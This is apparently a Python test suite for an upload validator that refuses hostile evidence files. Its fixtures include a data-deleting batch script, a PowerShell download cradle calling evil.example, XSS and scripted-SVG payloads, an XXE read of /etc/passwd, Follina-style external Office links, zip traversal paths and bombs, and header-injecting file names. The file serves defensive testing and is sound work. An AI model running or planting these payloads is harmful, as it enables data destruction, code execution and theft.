"""Hostile evidence files (issue 15, "Found in the same hostile run"): scripts by name and by
content, HTML and scripted SVG, Office containers carrying executables, macros, external
content, traversal paths or bombs; file-name normalisation; download headers.

Every hostile file is built here, byte by byte or with zipfile / openpyxl. Each refusal test
fails against the module as it was before the fix (``git show HEAD~:services/tasks/evidence.py``
run in place of the current one): it accepted every file below except where a comment says so.
"""

from __future__ import annotations

import base64
import contextlib
import io
import re
import struct
import unicodedata
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.tasks import evidence
from services.tasks.evidence import (
    DEFAULT_FILE_NAME,
    MAX_FILE_NAME_BYTES,
    SECURITY_HEADERS,
    EvidenceRejected,
    LocalEvidenceStore,
    S3EvidenceStore,
    check_upload,
    content_disposition,
    detect_content_type,
    download_headers,
    safe_file_name,
)

MB = 1024 * 1024
LIMIT = 20 * MB

# --- generated files ----------------------------------------------------------------------

PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 16
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"PE\x00\x00"
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + b"\x00" * 56
BATCH = b"@echo off\r\ndel /q /s C:\\Users\\*\r\nshutdown /s /t 0\r\n"
POWERSHELL = b"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/p.ps1')\r\n"

SVG_NS = 'xmlns="http://www.w3.org/2000/svg"'
#: What Inkscape / Illustrator write: declaration, comment, DOCTYPE, <style>, an embedded PNG
#: (data: URL), a hyperlink, xlink.
CLEAN_SVG = (
    '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
    "<!-- Created with Inkscape (http://www.inkscape.org/) -->\n"
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">'
    "<title>Sơ đồ tổ chức</title><style>.st0{fill:#c00;opacity:.5}</style>"
    '<image width="1" height="1" xlink:href="data:image/png;base64,'
    + base64.b64encode(PNG).decode()
    + '"/><a xlink:href="https://hanoi.gov.vn/"><rect class="st0" width="20" height="10"/></a>'
    '<text x="1" y="18" style="font-family:sans-serif">Phường Ba Đình</text></svg>'
).encode()

CT = "application/vnd.openxmlformats-officedocument"
CT_DOCX = f"{CT}.wordprocessingml.document"
CT_XLSX = f"{CT}.spreadsheetml.sheet"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx(
    extra: dict[str, bytes] | None = None,
    *,
    overrides: str = "",
    document_rels: str = "",
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A minimal Word document made with zipfile, with ``extra`` members, ``overrides`` in
    ``[Content_Types].xml`` and ``document_rels`` relationships of ``word/document.xml``."""
    types = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{CT_DOCX}.main+xml"/>'
        f"{overrides}</Types>"
    )
    package_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/officeDocument" Target="word/document.xml"/></Relationships>'
    )
    word_rels = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships">{document_rels}</Relationships>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", package_rels)
        archive.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
            'main"><w:body><w:p><w:r><w:t>Báo cáo tháng 5</w:t></w:r></w:p></w:body>'
            "</w:document>",
        )
        archive.writestr("word/_rels/document.xml.rels", word_rels)
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx() -> bytes:
    """A real workbook written by openpyxl."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet["A1"], sheet["B1"] = "Chỉ tiêu", "Kết quả"
    sheet["A2"], sheet["B2"] = "Hồ sơ giải quyết đúng hạn", 0.98
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


END, FREE, FATSECT = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD


def ole(entries: list[tuple[str, int]]) -> bytes:
    """A compound file (MS-CFB v3, 512-byte sectors; as in test_evidence.py): sector 0 is the
    FAT, sector 1 the directory; ``entries`` are (name, type) after the root, type 2 = stream."""
    directory = [("Root Entry", 5), *entries]
    assert len(directory) <= 4
    header = bytearray(512)
    header[:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, END, 0, END, 0)
    struct.pack_into("<109I", header, 76, 0, *([FREE] * 108))
    fat = struct.pack("<128I", FATSECT, END, *([FREE] * 126))
    block = bytearray(512)
    for index, (name, kind) in enumerate(directory):
        raw = (name + "\x00").encode("utf-16-le")
        entry = bytearray(128)
        entry[: len(raw)] = raw
        struct.pack_into("<HBB", entry, 64, len(raw), kind, 1)
        struct.pack_into("<III", entry, 68, FREE, FREE, FREE)
        struct.pack_into("<I", entry, 116, END)
        block[index * 128 : (index + 1) * 128] = entry
    return bytes(header) + fat + bytes(block)


DOCX_SAMPLE = docx({"word/media/image1.png": PNG})
XLSX_SAMPLE = xlsx()
OLE_SAMPLE = ole([("1Table", 2), ("WordDocument", 2)])
SVG_SAMPLE = CLEAN_SVG


def refused(data: bytes, name: str) -> EvidenceRejected:
    """The refusal of ``data`` uploaded as ``name``, checked to be bilingual and to name what
    was detected."""
    with pytest.raises(EvidenceRejected) as caught:
        check_upload(data, name, max_bytes=LIMIT)
    error = caught.value
    vietnamese, _, english = str(error).partition(" / ")
    assert "phát hiện" in vietnamese and "detected" in english, str(error)
    assert error.detected and error.detected in str(error)
    return error


# --- 1. scripts: by name and by content; the name must agree with the content ---------------


@pytest.mark.parametrize(
    "name",
    [
        "xoa.bat",
        "chay.cmd",
        "cai-dat.ps1",
        "macro.vbs",
        "macro.vbe",
        "tai.js",
        "tai.jse",
        "tac-vu.wsf",
        "cai.sh",
        "trang.hta",
        "man-hinh.scr",
        "loi-tat.lnk",
        "lien-ket.url",
        "so-dang-ky.reg",
        "bao-cao.pdf.exe",
        "ANH.PNG.BAT",
        "bao-cao.bat.",  # Windows drops the trailing dot: saved as .bat
        "bao-cao.bat .. ",
    ],
)
def test_script_extensions_are_refused_whatever_the_content(name: str) -> None:
    error = refused(b"echo Bao cao thang 5\r\n", name)
    assert "executable" in str(error) and "thực thi" in str(error)
    assert re.search(
        r"\(\.(bat|cmd|ps1|vbs|vbe|js|jse|wsf|sh|hta|scr|lnk|url|reg|exe)\)", str(error)
    )


def test_a_pdf_named_batch_file_is_refused() -> None:
    assert "batch" in refused(BATCH, "bao-cao.pdf").reason
    # a batch file without "@echo off" is text, and a text is not a PDF
    error = refused(b"del /q /s C:\\Users\\*\r\n", "bao-cao.pdf")
    assert error.detected == "text/plain" and "khớp" in error.reason and ".txt" in error.reason


@pytest.mark.parametrize(
    ("data", "named"),
    [
        (BATCH, "batch"),
        (b"  @ ECHO OFF\nformat c:\n", "batch"),
        (POWERSHELL, "PowerShell"),
        (b"powershell -nop -w hidden -enc SQBFAFgA\r\n", "PowerShell"),
        (b"Chay lenh: cmd.exe /c del /q C:\\Users\\*\r\n", "command line"),
        (b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n', "Script Host"),
        (b'new ActiveXObject("WScript.Shell").Run("calc");', "Script Host"),
        (b"Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\x]\r\n", "registry"),
        (b"[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n", "shortcut"),
    ],
    ids=[
        "batch",
        "batch-spaced",
        "ps-cradle",
        "ps-enc",
        "cmd",
        "vbscript",
        "jscript",
        "reg",
        "url",
    ],
)
def test_scripts_are_refused_by_content_even_named_txt(data: bytes, named: str) -> None:
    error = refused(data, "ghi-chu.txt")
    assert named.lower() in str(error).lower() and "executable" in str(error)


def test_a_windows_shortcut_is_named_by_its_content() -> None:
    # before: refused too, but as "unknown binary"; now named for what it is
    assert "shortcut" in refused(LNK, "tai-lieu.pdf").reason


@pytest.mark.parametrize(
    ("data", "name"),
    [(PNG, "anh.pdf"), (PDF, "bao-cao.png"), (JPEG, "anh.png"), (PNG, "anh.jpg")],
)
def test_the_extension_must_be_the_one_of_the_content(data: bytes, name: str) -> None:
    error = refused(data, name)
    assert "không khớp" in error.reason and "does not match" in error.reason


@pytest.mark.parametrize("name", ["bao-cao", "bao-cao.", "bao-cao.xyz", "bao-cao.pdf.zip"])
def test_a_missing_or_unknown_extension_is_refused(name: str) -> None:
    error = refused(PDF, name)
    assert ".pdf" in error.reason and error.detected == "application/pdf"


def test_the_store_checks_the_name_too(tmp_path: Path) -> None:
    store = LocalEvidenceStore(tmp_path)  # no size limit: the name is checked all the same
    with pytest.raises(EvidenceRejected, match="bat"):
        store.put(b"echo hi\r\n", "chay.bat")
    with pytest.raises(EvidenceRejected, match="khớp"):
        store.put(PNG, "anh.pdf")
    assert not any(tmp_path.rglob("*"))


# --- 2. HTML and SVG ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<img src=x onerror=alert(document.cookie)>", "anh.html"),
        (b"<img src=x onerror=alert(document.cookie)>", "ghi-chu.txt"),
        (b'Xem <b title=">" onmouseover="alert(1)">here</b>', "ghi-chu.txt"),  # quoted ">"
        (b"<!DOCTYPE html><p>Ung dung</p>", "ung-dung.hta"),
        (b"  <!doctype HTML>\n<title>Bao cao</title>", "bao-cao.txt"),
        (b"<p >Ket qua</p>", "ket-qua.txt"),  # WHATWG "<P" + space
        (b"Noi dung <iframe src=//evil.example></iframe>", "ghi-chu.txt"),
        (b'<a href="javascript:alert(1)">x</a>', "ghi-chu.txt"),
        (b'<html xmlns="http://www.w3.org/1999/xhtml"><body onload="x()"/></html>', "x.txt"),
        (b'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', "x.txt"),
    ],
    ids=[
        "img-onerror.html",
        "img-onerror.txt",
        "quoted-gt",
        "hta",
        "doctype",
        "whatwg-p",
        "iframe",
        "javascript-url",
        "xhtml",
        "prefixed-script",
    ],
)
def test_html_is_refused(data: bytes, name: str) -> None:
    error = refused(data, name)
    assert "HTML" in str(error) and "trình duyệt" in str(error)


HOSTILE_SVG = {
    "onload": f'<svg {SVG_NS} onload="alert(1)"><rect/></svg>',
    "onerror-upper": f'<svg {SVG_NS}><image href="x" ONERROR="alert(1)"/></svg>',
    "script": f"<svg {SVG_NS}><script>alert(document.domain)</script></svg>",
    # "<s:script" contains no "<script": only a parser sees it is an SVG script element
    "prefixed-script": (
        f'<svg {SVG_NS} xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>'
    ),
    "foreignObject": (
        f'<svg {SVG_NS}><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        "<img src='x'/></div></foreignObject></svg>"
    ),
    "javascript-href": f'<svg {SVG_NS}><a href="javascript:alert(1)"><rect/></a></svg>',
    "javascript-tab": f'<svg {SVG_NS}><a href="java&#9;script:alert(1)"><rect/></a></svg>',
    "xlink-javascript": (
        f'<svg {SVG_NS} xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<a xlink:href=" JavaScript:alert(1)"><rect/></a></svg>'
    ),
    "data-svg": f'<svg {SVG_NS}><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    "animate-href": (
        f'<svg {SVG_NS}><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<rect/></a></svg>"
    ),
    "set-onmouseover": f'<svg {SVG_NS}><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "xhtml-element": (
        f'<svg {SVG_NS} xmlns:h="http://www.w3.org/1999/xhtml"><h:iframe src="//x"/></svg>'
    ),
    "xml-stylesheet": f'<?xml-stylesheet type="text/xsl" href="x.xsl"?><svg {SVG_NS}/>',
    "entities": f'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">]><svg {SVG_NS}>&a;&a;</svg>',
    "external-entity": (
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg {SVG_NS}>&x;</svg>'
    ),
    "css-import": f"<svg {SVG_NS}><style>@import url(//evil.example/x.css);</style></svg>",
    "css-javascript": f"<svg {SVG_NS}><style>a{{b:url(javascript:alert(1))}}</style></svg>",
    "animate-xlink-href": (
        f'<svg {SVG_NS}><a><animate attributeName="xlink:href" values="0;javascript:alert(1)"/>'
        "<rect/></a></svg>"
    ),
    "not-well-formed": "<svg onload=alert(1)>",
}


@pytest.mark.parametrize("svg", HOSTILE_SVG.values(), ids=HOSTILE_SVG.keys())
def test_svg_that_can_run_code_is_refused(svg: str) -> None:
    error = refused(svg.encode(), "so-do.svg")
    assert "SVG" in str(error)


def test_a_clean_svg_is_accepted_as_svg_and_only_under_svg() -> None:
    assert check_upload(CLEAN_SVG, "sơ-đồ.svg", max_bytes=LIMIT) == "image/svg+xml"
    assert detect_content_type(f"<svg {SVG_NS}/>".encode()) == "image/svg+xml"
    assert refused(CLEAN_SVG, "so-do.txt").detected == "image/svg+xml"


def test_inert_svg_look_alikes_are_accepted() -> None:
    """A ``data:`` font in CSS, a word ending in "data:" or "javascript:" inside a longer word,
    an animation of a colour: nothing runs."""
    svg = (
        f'<svg {SVG_NS} xmlns:i="urn:x"><style>@font-face{{src:url(data:font/woff2;base64,AA)}}'
        '</style><rect i:label="metadata: 2026" i:note="nojavascript:x">'
        '<animate attributeName="fill" values="red;blue" dur="1s"/></rect></svg>'
    )
    assert check_upload(svg.encode(), "a.svg", max_bytes=LIMIT) == "image/svg+xml"


def test_plain_text_with_angle_brackets_is_still_text() -> None:
    text = "Báo cáo: số hồ sơ < 5% trễ hạn; mục tiêu > 95%, a<b và c>d.\n".encode()
    assert check_upload(text, "ghi-chu.txt", max_bytes=LIMIT) == "text/plain"
    xml = b"<ghichu><muc>Ket qua thang 5</muc></ghichu>"
    assert check_upload(xml, "ghi-chu.txt", max_bytes=LIMIT) == "text/plain"


# --- 3. Office Open XML containers ----------------------------------------------------------


def nested_docx_with(member: str, data: bytes) -> bytes:
    return docx({"word/embeddings/Microsoft_Word_Document.docx": docx({member: data})})


HOSTILE_OFFICE = {
    "exe-member-with-MZ": (docx({"word/embeddings/setup.exe": PE}), "executable"),
    "MZ-named-as-image": (docx({"word/media/image1.png": PE}), "PE/DOS"),
    "ELF-member": (docx({"word/media/image2.jpeg": b"\x7fELF\x02\x01\x01" + b"\0" * 57}), "ELF"),
    "dll-member": (docx({"word/x.dll": b"harmless bytes"}), "executable"),
    "bat-member": (docx({"customXml/run.bat": b"@echo off\r\n"}), "executable"),
    "ps1-member": (docx({"word/a.ps1": b"Write-Host hi"}), "executable"),
    "vbs-member": (docx({"word/a.vbs": b"MsgBox 1"}), "executable"),
    "html-member (altChunk)": (docx({"word/afchunk.mht": b"MIME-Version: 1.0"}), "executable"),
    "shebang-member": (docx({"word/media/x.bin": b"#!/bin/sh\nrm -rf ~\n"}), "shebang"),
    # an "Object > Create from file" package: how an .exe rides inside a document
    "OLE-package-object": (
        docx({"word/embeddings/oleObject1.bin": ole([("\x01Ole10Native", 2)])}),
        "Ole10Native",
    ),
    "OLE-object-with-macros": (
        docx({"word/embeddings/oleObject1.bin": ole([("WordDocument", 2), ("Macros", 1)])}),
        "macros",
    ),
    "nested-docx-with-exe": (nested_docx_with("word/embeddings/a.exe", PE), "executable"),
    "nested-docx-with-MZ": (nested_docx_with("word/media/a.png", PE), "PE/DOS"),
    # vbaProject.bin: refused before the fix too (the original checked this name)
    "vbaProject.bin": (docx({"word/vbaProject.bin": b"\xcc\x61"}), "macros"),
    "vbaProject-renamed": (
        docx(
            {"word/project.dat": b"\xcc\x61"},
            overrides='<Override PartName="/word/project.dat" '
            'ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "macros",
    ),
    "vbaData.xml": (docx({"word/vbaData.xml": b"<wne:vbaSuppData/>"}), "macros"),
    "excel4-macrosheet": (docx({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), "macros"),
    "activeX": (docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "ActiveX"),
    "follina-external-oleObject": (
        docx(
            document_rels=f'<Relationship Id="rId9" Type="{REL}/oleObject" '
            'Target="http://evil.example/x.html!" TargetMode="External"/>'
        ),
        "external",
    ),
    "remote-template": (
        docx(
            {
                "word/_rels/settings.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    f'relationships"><Relationship Id="rId1" Type="{REL}/attachedTemplate" '
                    'Target="https://evil.example/t.dotm" TargetMode="External"/>'
                    "</Relationships>"
                ).encode()
            }
        ),
        "external",
    ),
    "traversal-dotdot": (docx({"../../../../etc/cron.d/x": b"x"}), "unsafe"),
    "traversal-absolute": (docx({"/etc/passwd": b"x"}), "unsafe"),
    "traversal-backslash": (docx({"word\\..\\..\\x.xml": b"x"}), "unsafe"),
    "traversal-drive": (docx({"C:/Windows/x.xml": b"x"}), "unsafe"),
    "control-char-name": (docx({"word/a\r\nb.xml": b"x"}), "unsafe"),
}


@pytest.mark.parametrize(
    ("data", "named"), HOSTILE_OFFICE.values(), ids=list(HOSTILE_OFFICE.keys())
)
def test_hostile_office_documents_are_refused(data: bytes, named: str) -> None:
    error = refused(data, "to-trinh.docx")
    assert named.lower() in str(error).lower()


def test_a_duplicate_member_is_refused() -> None:
    buffer = io.BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr("word/document.xml", "<w:document/>")
    assert "duplicate" in refused(buffer.getvalue(), "a.docx").reason


def test_an_encrypted_member_is_refused() -> None:
    """zipfile cannot encrypt: the "encrypted" flag (bit 0) is set on the member's headers."""
    data = bytearray(docx({"word/media/secret.png": PNG}))
    central = data.rfind(b"PK\x01\x02")  # the last central-directory entry: secret.png
    assert data[central + 46 : central + 46 + 21] == b"word/media/secret.png"
    data[central + 8] |= 0x1
    (local,) = struct.unpack_from("<I", data, central + 42)
    data[local + 6] |= 0x1
    assert "encrypted" in refused(bytes(data), "a.docx").reason


def test_a_zip_bomb_member_is_refused() -> None:
    bomb = docx({"word/media/image1.png": b"\x00" * (16 * MB)})  # ~16 KB compressed: 1000×
    assert len(bomb) < 100_000
    error = refused(bomb, "to-trinh.docx")
    assert "expanding" in error.reason and "bất thường" in error.reason


def test_a_forged_size_is_refused() -> None:
    """The central directory says 1 KB; the member inflates to 4 MB (zipfile stops at the
    declared size and the CRC no longer matches)."""
    data = bytearray(docx({"word/media/image1.png": b"\x00" * (4 * MB)}))
    entry = data.rfind(b"PK\x01\x02")  # the last central-directory entry: image1.png
    assert data[entry + 46 : entry + 46 + 21] == b"word/media/image1.png"
    struct.pack_into("<I", data, entry + 24, 1024)
    refused(bytes(data), "to-trinh.docx")


def test_total_size_and_member_count_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    members = {f"word/media/image{i}.png": PNG * 200 for i in range(20)}  # 20 × 14 KB
    data = docx(members)
    assert check_upload(data, "a.docx", max_bytes=LIMIT) == CT_DOCX
    monkeypatch.setattr(evidence, "ZIP_MAX_UNCOMPRESSED", 200_000)
    assert "uncompressed" in refused(data, "a.docx").reason
    monkeypatch.setattr(evidence, "ZIP_MAX_UNCOMPRESSED", 256 * MB)
    monkeypatch.setattr(evidence, "ZIP_MAX_MEMBERS", 10)
    assert "members" in refused(data, "a.docx").reason


def test_opendocument_members_are_checked_too() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
        archive.writestr("Pictures/run.exe", PE)
    assert "executable" in refused(buffer.getvalue(), "van-ban.odt").reason


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_a_damaged_container_is_refused_never_an_error(data: st.DataObject) -> None:
    """Bytes of a document overwritten at random: accepted or EvidenceRejected (422), never
    another exception (a 500)."""
    original = data.draw(st.sampled_from([DOCX_SAMPLE, XLSX_SAMPLE, OLE_SAMPLE, SVG_SAMPLE]))
    damaged = bytearray(original)
    for _ in range(data.draw(st.integers(1, 8))):
        at = data.draw(st.integers(0, len(damaged) - 1))
        damaged[at] = data.draw(st.integers(0, 255))
    with contextlib.suppress(EvidenceRejected):
        detect_content_type(bytes(damaged))


def test_a_member_name_that_is_not_utf8_is_refused() -> None:
    data = bytearray(docx({"word/media/x.png": PNG}))
    central = data.rfind(b"PK\x01\x02")
    data[central + 8] |= 0x08  # bit 11 (0x800): the name is UTF-8
    data[central + 9] |= 0x08
    data[central + 46 + 11] = 0xFF  # not UTF-8
    assert "damaged" in refused(bytes(data), "a.docx").reason


# --- accepted ------------------------------------------------------------------------------


def clean_docx_with_everything_allowed() -> bytes:
    """A hyperlink to the outside, an embedded (clean) workbook, a picture, printer settings,
    a thumbnail: what real documents hold."""
    return docx(
        {
            "word/media/image1.png": PNG,
            "word/media/image2.svg": CLEAN_SVG,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": xlsx(),
            "word/embeddings/oleObject1.bin": ole([("\x01Ole", 2), ("Workbook", 2)]),
            "word/printerSettings/printerSettings1.bin": b"\x00\x01" * 100,
            "docProps/thumbnail.jpeg": JPEG,
        },
        document_rels=f'<Relationship Id="rId5" Type="{REL}/hyperlink" '
        'Target="https://dichvucong.gov.vn/" TargetMode="External"/>',
    )


def pptx_with_online_video(target: str = "https://www.youtube.com/embed/abc") -> bytes:
    """A presentation whose slide links an online video (PowerPoint "Online Video")."""
    buffer = io.BytesIO()
    main = f"{CT}.presentationml.presentation.main+xml"
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/ppt/presentation.xml" ContentType="{main}"/></Types>',
        )
        archive.writestr("ppt/presentation.xml", "<p:presentation/>")
        archive.writestr(
            "ppt/slides/_rels/slide1.xml.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId2" Type="{REL}/video" TargetMode="External" '
            f'Target="{target}"/></Relationships>',
        )
    return buffer.getvalue()


def test_a_linked_picture_or_a_video_off_the_web_is_refused() -> None:
    picture = docx(
        document_rels=f'<Relationship Id="rId7" Type="{REL}/image" '
        'Target="file://///attacker.example/share/a.png" TargetMode="External"/>'
    )
    assert "external" in refused(picture, "a.docx").reason
    video = pptx_with_online_video("file://///attacker.example/share/v.mp4")
    assert "external" in refused(video, "a.pptx").reason


ACCEPTED = [
    ("bao-cao.pdf", PDF, "application/pdf"),
    ("anh.png", PNG, "image/png"),
    ("ANH.JPG", JPEG, "image/jpeg"),
    ("anh.jpeg", JPEG, "image/jpeg"),
    ("to-trinh.docx", docx(), CT_DOCX),
    ("to-trinh-day-du.docx", clean_docx_with_everything_allowed(), CT_DOCX),
    ("stored.docx", docx(compression=zipfile.ZIP_STORED), CT_DOCX),
    ("bang-so-lieu.xlsx", xlsx(), CT_XLSX),
    ("trinh-chieu.pptx", pptx_with_online_video(), f"{CT}.presentationml.presentation"),
    ("so-do.svg", CLEAN_SVG, "image/svg+xml"),
    ("ghi-chu.txt", "Đã hoàn thành 12/12 hồ sơ, online 100%.\n".encode(), "text/plain"),
]


@pytest.mark.parametrize(("name", "data", "expected"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_accepted(name: str, data: bytes, expected: str) -> None:
    assert check_upload(data, name, max_bytes=LIMIT) == expected


# --- 4. file names -------------------------------------------------------------------------

NFD = unicodedata.normalize("NFD", "Báo cáo kết quả tháng 5 - Đặng Thị Hương.pdf")

NAMES = [
    ("../../etc/passwd", "passwd"),
    ("..\\..\\Windows\\win.ini", "win.ini"),
    ("/var/www/../x.pdf", "x.pdf"),
    ("C:\\Users\\cb\\Desktop\\Báo cáo.pdf", "Báo cáo.pdf"),
    ("a\r\nb.pdf", "ab.pdf"),
    ("x\x00.pdf", "x.pdf"),
    ("x\x00.pdf\x00.exe", "x.pdf.exe"),
    ("\x1b[31mđỏ\x7f.txt", "[31mđỏ.txt"),
    ("hoa-don\u202efdp.exe", "hoa-donfdp.exe"),  # right-to-left override: "hoa-donexe.pdf"
    ("zero\u200bwidth\ufeff.pdf", "zerowidth.pdf"),
    ("  Báo \t  cáo\u00a0\u3000tháng\u2028 5 .pdf  ", "Báo cáo tháng 5.pdf"),
    ("bao-cao.bat. . .", "bao-cao.bat"),
    ("...hidden.pdf", "hidden.pdf"),
    ('a<b>:"c"|d?*.pdf', "a_b___c__d__.pdf"),
    ("CON", "_CON"),
    ("nul.txt", "_nul.txt"),
    ("lpt1.tar.gz", "_lpt1.tar.gz"),
    ("", DEFAULT_FILE_NAME),
    ("../", DEFAULT_FILE_NAME),
    ("\r\n\x00 . ", DEFAULT_FILE_NAME),
    (".pdf", f"{DEFAULT_FILE_NAME}.pdf"),
    ("../ .pdf", f"{DEFAULT_FILE_NAME}.pdf"),
    ("\ud800lone.pdf", "lone.pdf"),
    (NFD, unicodedata.normalize("NFC", NFD)),
]


@pytest.mark.parametrize(("raw", "expected"), NAMES, ids=[repr(n[0])[:40] for n in NAMES])
def test_safe_file_name(raw: str, expected: str) -> None:
    assert safe_file_name(raw) == expected
    assert safe_file_name(expected) == expected  # idempotent


@pytest.mark.parametrize("char", ["a", "đ", "文", "🙂"])
def test_long_names_are_cut_keeping_the_extension(char: str) -> None:
    name = safe_file_name(char * 500 + ".pdf")
    assert name.endswith(".pdf") and name.startswith(char * 10)
    assert len(name.encode("utf-8")) <= MAX_FILE_NAME_BYTES
    assert len(name.encode("utf-8")) > MAX_FILE_NAME_BYTES - 4  # cut at a character
    long_extension = safe_file_name("a." + "b" * 500)
    assert len(long_extension.encode()) <= MAX_FILE_NAME_BYTES


def test_the_default_name_can_be_given() -> None:
    assert safe_file_name(".pdf", default="minh-chung-7") == "minh-chung-7.pdf"
    assert safe_file_name("\r\n", default="../x\r\n") == "x"
    assert safe_file_name("", default="../") == DEFAULT_FILE_NAME
    assert safe_file_name(".pdf", default="d" * 500).endswith("d.pdf")
    assert len(safe_file_name(".pdf", default="d" * 500)) == MAX_FILE_NAME_BYTES
    assert content_disposition(None, default="minh-chung-7") == (
        "attachment; filename=\"minh-chung-7\"; filename*=UTF-8''minh-chung-7"
    )
    assert content_disposition("文件.pdf", default="minh-chung-7").startswith(
        'attachment; filename="minh-chung-7.pdf"; '
    )


def test_a_non_string_name_is_a_type_error() -> None:
    with pytest.raises(TypeError, match="str"):
        safe_file_name(b"a.pdf")  # type: ignore[arg-type]


FORBIDDEN_IN_NAMES = re.compile(r"[/\\\x00-\x1f\x7f<>:\"|?*\u202a-\u202e\u2066-\u2069]")


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=600))
def test_any_name_becomes_safe(raw: str) -> None:
    name = safe_file_name(raw)
    assert name and name == name.strip(" ") and not name.endswith(".")
    assert not FORBIDDEN_IN_NAMES.search(name)
    assert len(name.encode("utf-8")) <= MAX_FILE_NAME_BYTES
    assert unicodedata.is_normalized("NFC", name)
    assert safe_file_name(name) == name
    header = content_disposition(raw)
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.count('"') == 2
    assert unquote(header.split("filename*=UTF-8''")[1]) == name


def test_the_stores_keep_the_safe_name(tmp_path: Path) -> None:
    local = LocalEvidenceStore(tmp_path).put(PDF, "..\\..\\" + NFD + "\r\n")
    assert local.filename == unicodedata.normalize("NFC", NFD)

    class NotFoundClient:
        def head_object(self, **kw: Any) -> None:
            error = Exception("404")
            error.response = {"Error": {"Code": "404"}}  # type: ignore[attr-defined]
            raise error

        def put_object(self, **kw: Any) -> dict[str, Any]:
            return {}

    s3 = S3EvidenceStore("b", NotFoundClient()).put(PDF, "a" * 400 + ".pdf")
    assert s3.filename.endswith(".pdf") and len(s3.filename.encode()) <= MAX_FILE_NAME_BYTES


def test_messages_quote_the_safe_name() -> None:
    error = refused(PNG, "../../x\u202e\r\nSet-Cookie: a=b.pdf")
    assert "\r" not in str(error) and "\n" not in str(error) and "../" not in str(error)
    assert "'xSet-Cookie_ a=b.pdf'" in str(error)


# --- 5. download headers -------------------------------------------------------------------


